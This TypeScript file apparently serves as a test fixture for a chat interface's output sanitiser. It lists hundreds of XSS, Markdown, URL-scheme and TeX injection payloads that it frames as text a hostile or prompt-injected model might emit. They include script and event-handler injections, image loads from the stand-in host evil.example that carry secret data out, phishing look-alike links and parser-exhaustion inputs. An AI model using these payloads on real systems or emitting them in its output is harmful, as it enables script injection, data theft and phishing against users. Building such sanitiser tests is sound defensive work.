// What a hostile model (or a poisoned text that it repeats) would write to run a script, to load something, or to lead astray.

const MARK = 'window.__xss=1';
const OUT = 'https://evil.example';

const HTML = [
  `<script>${MARK}</script>`, `<script src="${OUT}/x.js"></script>`, `<SCRIPT>${MARK}</SCRIPT >`, `<script/x>${MARK}</script>`, `<script\n>${MARK}</script\n>`, `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<script type=module>import "${OUT}/m.js"</script>`, `<script>/*</script><svg onload=${MARK}>*/`, `<img src=x onerror=${MARK}>`, `<img src="${OUT}/p.png">`, `<img/src=x/onerror=${MARK}>`, `<img src=x onerror="${MARK}"`, `<IMG """><SCRIPT>${MARK}</SCRIPT>">`,
  `<img srcset="${OUT}/p.png 1x">`, `<picture><source srcset="${OUT}/p"><img></picture>`, `<svg onload=${MARK}>`, `<svg/onload=${MARK}>`, `<svg><script>${MARK}</script></svg>`, `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${MARK}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${MARK}>#x"></svg>`, `<svg><foreignObject><iframe srcdoc="<script>${MARK}</script>"></svg>`, `<svg><style><img src=x onerror=${MARK}></style></svg>`, `<svg><image href="${OUT}/p"/></svg>`, `<svg><set attributeName=href to=javascript:${MARK}>`,
  `<iframe src="javascript:${MARK}"></iframe>`, `<iframe srcdoc="<script>parent.__xss=1</script>">`, `<iframe src="${OUT}">`, `<iframe src=data:text/html,<script>${MARK}</script>>`, `<object data="javascript:${MARK}">`, `<object data="${OUT}">`, `<embed src="javascript:${MARK}">`, `<embed src="${OUT}">`,
  `<applet code=x>`, `<base href="${OUT}/">`, `<link rel=stylesheet href="${OUT}/x.css">`, `<link rel=prefetch href="${OUT}/p">`, `<link rel=dns-prefetch href="${OUT}">`, `<meta http-equiv=refresh content="0;url=${OUT}">`, `<meta http-equiv=refresh content="0;url=javascript:${MARK}">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<form action="${OUT}"><button>go</button></form>`, `<form><button formaction="javascript:${MARK}">x</button></form>`, `<form id=x></form><button form=x formaction=javascript:${MARK}>`, `<input autofocus onfocus=${MARK}>`, `<select autofocus onfocus=${MARK}>`, `<textarea autofocus onfocus=${MARK}>`, `<keygen autofocus onfocus=${MARK}>`, `<input type=image src="${OUT}/p">`,
  `<body onload=${MARK}>`, `<body background="${OUT}/p">`, `<html onmouseover=${MARK}>`, `<div onmouseover=${MARK} style="position:fixed;inset:0">`, `<p style="background:url(${OUT}/p)">x</p>`, `<style>@import "${OUT}/x.css";</style>`, `<style>*{background:url(${OUT}/p)}</style>`, `<div style="width:expression(${MARK})">`, `<xss style="behavior:url(${OUT})">`,
  `<video src="${OUT}/v" onerror=${MARK}></video>`, `<video><source onerror=${MARK}></video>`, `<video poster="${OUT}/p">`, `<audio src=x onerror=${MARK}>`, `<audio src="${OUT}/a" autoplay>`, `<track src="${OUT}">`, `<marquee onstart=${MARK}>x</marquee>`, `<details open ontoggle=${MARK}>x</details>`, `<dialog open onclose=${MARK}>`,
  `<a href="javascript:${MARK}">x</a>`, `<a href=" javascript:${MARK}">x</a>`, `<a href="java\tscript:${MARK}">x</a>`, `<a href="data:text/html,<script>${MARK}</script>">x</a>`, `<a href="${OUT}" ping="${OUT}/ping">x</a>`, `<a id=starchat name=harness href=#>x</a>`, `<area href=javascript:${MARK}>`, `<map name=x><area onfocus=${MARK}>`,
  `<template><script>${MARK}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`, `<title><img src=x onerror=${MARK}></title>`, `<textarea><img title="</textarea><img src=x onerror=${MARK}>">`, `<xmp><p title="</xmp><svg/onload=${MARK}>">`, `<plaintext><img src=x onerror=${MARK}>`, `<listing>&lt;img onerror=${MARK} src=x&gt;</listing>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}></style></mglyph></table></mtext></math>`, `<math href="javascript:${MARK}">x</math>`, `<math><maction actiontype="statusline#${OUT}" xlink:href="javascript:${MARK}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${MARK}></annotation-xml></math>`,
  `<table background="${OUT}/p">`, `<td background="${OUT}/p">`, `<frameset onload=${MARK}>`, `<frame src="${OUT}">`, `<bgsound src="${OUT}">`, `<isindex action="javascript:${MARK}">`, `<x onclick=${MARK} tabindex=1 autofocus onfocus=${MARK}>`, `<x contenteditable onblur=${MARK}>`, `<slot onslotchange=${MARK}>`, `<portal src="${OUT}">`, `<fencedframe src="${OUT}">`,
  `<!--><img src=x onerror=${MARK}>-->`, `<!-- --!><img src=x onerror=${MARK}>`, `<![CDATA[<img src=x onerror=${MARK}>]]>`, `<?xml version="1.0"?><script>${MARK}</script>`, `<!DOCTYPE x [<!ENTITY x SYSTEM "${OUT}">]>&x;`, `</p></div></article><script>${MARK}</script>`, `"><script>${MARK}</script>`, `'><img src=x onerror=${MARK}>`, `\`><img src=x onerror=${MARK}>`,
  `<\u0000script>${MARK}</script>`, `<img src=x \u0000onerror=${MARK}>`, `\uFF1Cscript\uFF1E${MARK}\uFF1C/script\uFF1E`, `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`, `<<script>${MARK}//<</script>`, `<img src=x onerror&#61;${MARK}>`, `&lt;script&gt;${MARK}&lt;/script&gt;`, `&#60;img src=x onerror=${MARK}&#62;`, `&#x3c;svg onload=${MARK}&#x3e;`, `&amp;lt;script&amp;gt;`, `<img src="x" onerror="&#119;indow.__xss=1">`,
];

const SCHEMES = [
  `javascript:${MARK}`, `JaVaScRiPt:${MARK}`, ` javascript:${MARK}`, `\u0001javascript:${MARK}`, `java\u0000script:${MARK}`, `javascript&colon;${MARK}`, `javascript&#58;${MARK}`, `&#106;avascript:${MARK}`, `&#x6A;avascript:${MARK}`, `java&Tab;script:${MARK}`, `java&NewLine;script:${MARK}`, `java%0ascript:${MARK}`, `%6aavascript:${MARK}`, `\\javascript:${MARK}`,
  `javascript://%0a${MARK}`, `javascript://https://a.example/%0a${MARK}`, `javascript:void(${MARK})`, `vbscript:${MARK}`, `livescript:${MARK}`, `data:text/html,%3Cscript%3E${MARK}%3C/script%3E`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`, `data:image/svg+xml,%3Csvg%20onload=${MARK}%3E`, `data:image/png;base64,AAAA`, `DATA:text/html,x`,
  `file:///etc/passwd`, `blob:${OUT}/1`, `filesystem:${OUT}/x`, `about:blank`, `view-source:${OUT}`, `jar:${OUT}!/x`, `feed:javascript:${MARK}`, `ws://evil.example`, `ftp://evil.example/x`, `tel:123`, `sms:1`, `intent://x#Intent;end`, `ms-msdt:/id`, `chrome://settings`, `steam://run/1`, `//evil.example/x`, `/ui/conversations`, `ui/export`, `#/c/x`, `?q=1`, `http:evil.example`, `https:\\\\evil.example`, `javascript\uFF1A${MARK}`, `jav\u200Bascript:${MARK}`, `http://[::1`, `mailto:a@b.example?body=x`,
];

const FORMS: ((u: string) => string)[] = [
  (u) => `[click](${u})`, (u) => `[click](<${u}>)`, (u) => `![image](${u})`, (u) => `<${u}>`, (u) => `[ref]\n\n[ref]: ${u}`, (u) => `[![in](${u})](${u})`, (u) => u,
];

const MARKDOWN = [
  `![x](${OUT}/a.png)`, `![x](${OUT}/a.png "title")`, `![${'a'.repeat(50)}](${OUT}/?q=secret)`, `![x][r]\n\n[r]: ${OUT}/a.png`, `[![x](${OUT}/1.png)](${OUT}/2)`, `![x](//evil.example/a.png)`, `![x](http://evil.example/a.png =1x1)`, `[x](${OUT} "a\\" onmouseover=${MARK} b=\\"")`, `[x](${OUT} 'a" onclick="${MARK}')`, `[x](<${OUT}" onclick=${MARK}>)`, `[x](${OUT}"onmouseover="${MARK})`,
  `[a](${OUT})[b](${OUT})`, `[https://bank.example](${OUT})`, `[bank.example/login](https://bank.example.evil.example/)`, `[https://evil.example@bank.example](${OUT}/x)`, `[](${OUT})`, `[ ](${OUT})`, `[\u202Ekcab](${OUT})`, `[x](https://bank.example@evil.example/)`, `[x](https://\u0430pple.example/)`, `https://bank.example@evil.example/ click`, `www.evil.example and evil.example`, `<a@b.example>`, `<https://evil.example/"onmouseover=${MARK}>`,
  `\`\`\`"><img src=x onerror=${MARK}>\ncode\n\`\`\``, `\`\`\`html\n<img src=x onerror=${MARK}>\n\`\`\``, `\`\`\`js" onmouseover="${MARK}\nx\n\`\`\``, `~~~<script>${MARK}</script>\nx\n~~~`, `\`\`\`svg\n<svg onload=${MARK}>\n\`\`\``, `\`\`\`python __proto__\nx\n\`\`\``, `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\nx\n\`\`\``, `\`<img src=x onerror=${MARK}>\``, `\`\`\`\n</code></pre><script>${MARK}</script>\n\`\`\``, `    <script>${MARK}</script>`,
  `| <script>${MARK}</script> | b |\n|---|---|\n| <img src=x onerror=${MARK}> | [x](javascript:${MARK}) |`, `|a|\n|:-:" onclick=${MARK}|\n|b|`, `# <img src=x onerror=${MARK}>`, `# x {#id onclick=${MARK}}`, `- [ ] <img src=x onerror=${MARK}>`, `- [x] [x](javascript:${MARK})`, `> <script>${MARK}</script>`, `1. <svg onload=${MARK}>`, `**<b onmouseover=${MARK}>x</b>**`, `~~<script>${MARK}</script>~~`, `*[x](javascript:${MARK})*`,
  `[^1]\n\n[^1]: <img src=x onerror=${MARK}>`, `[__proto__]: ${OUT}\n\n[__proto__]`, `[constructor]\n\n[constructor]: javascript:${MARK}`, `[x]: <javascript:${MARK}>\n\n[x]`, `[a\n\n<script>${MARK}</script>\n\n](b)`, `[x](javascript\n:${MARK})`, `***\n<script>\n${MARK}\n</script>\n***`, `<details>\n<summary>x</summary>\n<img src=x onerror=${MARK}>\n</details>`, `<div>\n\n*x*\n\n<script>${MARK}</script>\n\n</div>`, `\\<script>${MARK}\\</script>`, `\u2028<script>${MARK}</script>`, `${'> '.repeat(200)}x`, `${'- '.repeat(150)}x`, `${'['.repeat(300)}x${']'.repeat(300)}(${OUT})`, `${'*'.repeat(300)}x${'*'.repeat(300)}`, `${'!['.repeat(100)}x`,
];

const TEX = [
  `\\href{javascript:${MARK}}{x}`, `\\href{${OUT}}{x}`, `\\url{javascript:${MARK}}`, `\\includegraphics{${OUT}/p.png}`, `\\includegraphics[width=1em]{${OUT}/p}`, `\\htmlId{root}{x}`, `\\htmlClass{banner}{x}`, `\\htmlStyle{background:url(${OUT}/p)}{x}`, `\\htmlData{x=1}{y}`, `\\class{side}{x}`, `\\id{app}{x}`, `\\style{position:fixed}{x}`, `\\cssId{app}{x}`, `\\label{app}x\\tag{<img src=x onerror=${MARK}>}`, `\\tag{\\href{javascript:${MARK}}{1}}`,
  `\\text{<img src=x onerror=${MARK}>}`, `<script>${MARK}</script>`, `\\color{red;background:url(${OUT})}x`, `\\colorbox{url(${OUT})}{x}`, `\\textcolor{javascript:${MARK}}{x}`, `\\unicode{x3c}script`, `\\char"3C script`, `\\def\\x{\\x}\\x`, `\\let\\href\\text\\href{a}`, `\\newcommand{\\y}[1]{\\href{#1}{z}}\\y{javascript:${MARK}}`, `\\require{html}\\href{javascript:${MARK}}{x}`, `\\rule{9999em}{9999em}`, `\\kern-9999em x`, `\\raisebox{9999em}{x}`, `\\hspace{-9999em}x`, `\\begin{CD} A @>a>> B \\end{CD}`, `\\ce{<script>}`, `\\mathrm{\\href{x}{y}}`, `\\verb|<img src=x onerror=${MARK}>|`, `\\text{\\$<svg onload=${MARK}>}`,
];

// The same inside of what Markdown makes elements of.
const WRAPS: ((h: string) => string)[] = [
  (h) => `- ${h}`, (h) => `> ${h}`, (h) => `## ${h}`, (h) => `**${h}**`, (h) => `[${h}](https://a.example)`, (h) => `| a |\n|---|\n| ${h} |`, (h) => `1. a\n   ${h}`, (h) => `\\${h}`,
];

export const PAYLOADS: string[] = [...new Set([
  ...HTML, ...MARKDOWN,
  ...HTML.filter((h) => !h.includes('\n')).flatMap((h) => WRAPS.map((w) => w(h))),
  ...SCHEMES.flatMap((u) => FORMS.map((f) => f(u))),
  ...TEX.flatMap((t) => [`$${t}$`, `$$\n${t}\n$$`, `\\(${t}\\)`, `\\[${t}\\]`]),
])];
